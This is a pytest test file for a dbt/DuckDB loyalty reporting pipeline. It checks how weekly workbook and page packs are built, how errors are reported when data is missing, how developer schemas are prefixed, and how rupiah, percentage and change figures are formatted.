def test_make_build_ends_with_the_pack(
    duckdb_build: Build,
    changed_build: Callable[..., Build],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    pack: Pack,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(build_command.console, "width", 200)
    with environment(duckdb_build):
        assert build_command.make_weekly_pack("duckdb")
    said = capsys.readouterr().out
    assert f"Workbook: output/{pack.title}.xlsx" in said
    assert f"Page: output/{pack.title}.html" in said
    # Other data: no week is complete, or nothing is reported of the business unit.
    for statement in (
        "update core.dim_weeks set is_complete_week = false",
        "delete from weekly_reports.weekly_koin_in_out where bu_code = 'AZKO'",
    ):
        with environment(changed_build(statement)):
            assert build_command.make_weekly_pack("duckdb")
        assert "No weekly pack of AZKO: no " in capsys.readouterr().out
    with environment(changed_build("drop table weekly_reports.weekly_kpis")):
        assert not build_command.make_weekly_pack("duckdb")
    assert "Error: no weekly pack: the marts are not built yet" in capsys.readouterr().out


def test_marts_are_read_while_the_process_has_the_file_open(
    changed_build: Callable[..., Build],
) -> None:
    """As after a build in this process."""
    build = changed_build()
    with duckdb.connect(build.env["LOYALTY_DUCKDB_PATH"]), marts_of(build) as marts:
        assert marts.rows("quality.data_freshness")


def test_a_developers_schemas_have_their_prefix(
    duckdb_build: Build, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    profile = (Path(duckdb_build.env["DBT_PROFILES_DIR"]) / "profiles.yml").read_text()
    (tmp_path / "profiles.yml").write_text(profile.replace("schema: main", "schema: dev"))
    with environment(duckdb_build, DBT_PROFILES_DIR=str(tmp_path)):
        target = read_target("duckdb")
        assert target.prefix == "dev_"
        with (
            open_marts(target) as marts,
            pytest.raises(RuntimeError, match="marts are not built yet"),
        ):
            marts.rows("quality.data_freshness")


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        (Kind.RUPIAH, Decimal("1234567.00"), "Rp 1,234,567"),
        (Kind.RUPIAH, Decimal("-5000"), "-Rp 5,000"),
        (Kind.KOIN, 0, "0"),
        (Kind.QUANTITY, Decimal("3.000"), "3"),
        (Kind.QUANTITY, Decimal("3.250"), "3.25"),
        (Kind.PERCENT, Decimal("0.160206"), "16.0%"),
        (Kind.CHANGE, Decimal("0.2465"), "+24.7%"),
        (Kind.CHANGE, Decimal("-0.5"), "-50.0%"),
        (Kind.CHANGE, Decimal("0"), "0.0%"),
        (Kind.CHANGE, "first week", "first week"),
        (Kind.MOVE, 2, "▲ 2"),
        (Kind.MOVE, -3, "▼ 3"),
        (Kind.MOVE, 0, "="),
        (Kind.MULTIPLE, None, "-"),
    ],
)
def test_figures_read_as_people_write_them(kind: Kind, value: Any, text: str) -> None:
    assert shown(kind, value) == text
